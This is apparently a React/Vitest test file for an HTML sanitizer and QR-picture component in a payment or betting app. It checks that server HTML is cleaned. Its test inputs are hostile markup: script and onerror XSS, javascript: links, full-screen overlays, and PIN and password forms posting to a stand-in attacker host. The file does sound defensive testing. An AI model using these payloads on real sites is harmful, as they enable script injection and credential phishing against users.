import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { SafeHtml, SafePicture } from '../../../src/ui/SafeHtml';

afterEach(cleanup);

describe('SafeHtml', () => {
  it('keeps formatting but drops scripts and event-handler attributes', () => {
    const hit = vi.fn();
    (window as unknown as { hit: () => void }).hit = hit;
    const { container } = render(
      <SafeHtml
        html={
          '<b>Bonus 100%</b><script>window.hit()</script><img src="x" onerror="window.hit()"><a href="javascript:window.hit()">go</a>'
        }
      />,
    );
    expect(container.querySelector('b')).toHaveTextContent('Bonus 100%');
    expect(container.querySelector('script')).toBeNull();
    expect(container.innerHTML).not.toMatch(/onerror/i);
    expect(container.innerHTML).not.toMatch(/javascript:/i);
    expect(container.querySelector('img')).not.toBeNull();
    expect(hit).not.toHaveBeenCalled();
  });
});

describe('SafeHtml keeps server HTML in its box', () => {
  const shown = (html: string) => render(<SafeHtml html={html} className="html-block" />).container;

  it('drops what lifts a part out of its box or over the app, and keeps the rest of its style', () => {
    const box = shown(
      [
        '<div id="a" style="position:fixed; top:0; left:0; right:0; bottom:0; z-index:2147483647; color:red">cover</div>',
        '<p id="b" style="position:sticky; top:0">stuck</p>',
        '<p id="c" style="margin-top:-500px; margin-left:-2em; margin-bottom:8px">up</p>',
        '<p id="d" style="transform:translate(-50vw, -50vh) scale(10)">big</p>',
        '<p id="e" style="position:absolute; float:left">placed</p>',
        '<p id="f" style="position:relative; font-weight:bold">kept</p>',
      ].join(''),
    );
    // Each part's style as property: value, or null with no style left at all.
    const style = (id: string) => {
      const el = box.querySelector<HTMLElement>(`#user-content-${id}`)!;
      return el.hasAttribute('style') ? Array.from(el.style).map((n) => `${n}: ${el.style.getPropertyValue(n)}`) : null;
    };
    expect(style('a')).toEqual(['color: red']);
    expect(style('b')).toBeNull();
    expect(style('c')).toEqual(['margin-bottom: 8px']);
    expect(style('d')).toBeNull();
    expect(style('e')).toBeNull();
    expect(style('f')).toEqual(['position: relative', 'font-weight: bold']);
  });

  it("never brings a <style>, the app's own classes or the app's ids; links still work", () => {
    const box = shown(
      '<p>a</p><style>#root { display: none }</style><div class="dialog-backdrop" id="root">b</div><a href="https://example.test/t">terms</a>',
    );
    expect(box.querySelector('style')).toBeNull();
    expect(box.querySelector('.dialog-backdrop')).toBeNull();
    expect(box.querySelector('#root')).toBeNull();
    expect(box.querySelector('a')).toHaveAttribute('href', 'https://example.test/t');
    // The box that contains whatever got through (styles.css .server-html), with the caller's class.
    expect(box.firstElementChild).toHaveClass('server-html', 'html-block');
  });
});

describe("SafePicture: a payment provider's QR markup is one picture", () => {
  const GIF = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
  const shown = (html: string) =>
    render(<SafePicture html={html} className="qr-image" fallback={<p>no picture</p>} />).container;

  it('keeps the first image alone: no form, no password field, no link, no text around it', () => {
    const box = shown(
      `<form action="https://evil.example/steal"><p>Enter your PIN</p><input type="password" name="pin"><button>OK</button></form>` +
        `<a href="https://evil.example"><img alt="QR" src="${GIF}"></a><img src="${GIF}" alt="second">`,
    );
    expect(box.querySelectorAll('img')).toHaveLength(1);
    expect(box.querySelector('img')).toHaveAttribute('src', GIF);
    expect(box.querySelector('img')).toHaveAttribute('alt', 'QR');
    expect(box.querySelector('form, input, button, a')).toBeNull();
    expect(box.textContent).toBe('');
  });

  it('takes a data: image or a web address of the allow-list, never a script address or another data type', () => {
    expect(shown(`<img src="https://cdn.example/qr.png">`).querySelector('img')).toHaveAttribute(
      'src',
      'https://cdn.example/qr.png',
    );
    for (const src of ['javascript:alert(1)', 'data:text/html;base64,PHNjcmlwdD4=', ''])
      expect(shown(`<img src="${src}" alt="QR">`).textContent, src).toBe('no picture');
    expect(shown('<b>QR</b>').textContent).toBe('no picture');
  });
});

describe("SafeHtml paints the server's Thai and Lao as the app's own texts", () => {
  it('keeps a word a reader reads as one whole, and the text as the server wrote it', () => {
    const { container } = render(<SafeHtml html={'<p>ลืมรหัสผ่าน? <b>แชทสด</b></p><p>ສົ່ງສະລິບໄດ້ຈົນກວ່າວັນຈັນ</p>'} />);
    expect([...container.querySelectorAll('.word')].map((w) => w.textContent)).toEqual([
      'รหัสผ่าน',
      'แชท',
      'ສະລິບ',
      'ຈົນກວ່າ',
      'ວັນຈັນ',
    ]);
    expect(container.textContent).toBe('ลืมรหัสผ่าน? แชทสดສົ່ງສະລິບໄດ້ຈົນກວ່າວັນຈັນ');
  });
});

describe('SafeHtml asks for nothing: no form or control, and only https and the app’s own links', () => {
  const shown = (html: string) => render(<SafeHtml html={html} />).container;

  it('keeps no form, field, button, list, label or image map of a server block; their words stay as text', () => {
    const box = shown(
      '<p>Accept the conditions</p><form action="https://evil.example/s" method="get"><label for="p">Password</label>' +
        '<input id="p" type="password" name="p"><select name="b"><option>KBANK</option></select>' +
        '<textarea name="t">note</textarea><fieldset><legend>Bank</legend><output>1</output></fieldset>' +
        '<button formaction="https://evil.example/b">Confirm</button></form>' +
        '<img src="https://cdn.example/m.png" usemap="#m"><map name="m"><area href="https://evil.example/a"></map>',
    );
    expect(
      box.querySelector('form, input, button, select, option, textarea, label, fieldset, legend, output, map, area'),
    ).toBeNull();
    expect(box.textContent).toBe('Accept the conditionsPasswordKBANKnoteBank1Confirm');
  });

  it('opens an https link outside the app, without the app’s address; keeps the app’s own in place', () => {
    const box = shown(
      '<a href="https://promo.example/a" target="_top" rel="opener">promo</a><a href="/user/bonus" target="_blank">bonus</a>',
    );
    const [out, own] = Array.from(box.querySelectorAll('a'));
    expect(out).toHaveAttribute('href', 'https://promo.example/a');
    expect(out).toHaveAttribute('target', '_blank');
    expect(out).toHaveAttribute('rel', 'noopener noreferrer');
    expect(own).toHaveAttribute('href', `${window.location.origin}/user/bonus`);
    expect(own).not.toHaveAttribute('target');
    expect(own).not.toHaveAttribute('rel');
  });

  it('leaves any other link its text alone: http, mailto, tel, javascript, none', () => {
    const box = shown(
      '<p><a href="http://promo.example/a">plain http</a> <a href="mailto:a@example.com">mail</a> ' +
        '<a href="tel:021234567">call</a> <a href="javascript:alert(1)">js</a> <a>none</a></p>',
    );
    expect(box.querySelector('a')).toBeNull();
    expect(box.textContent).toBe('plain http mail call js none');
  });
});
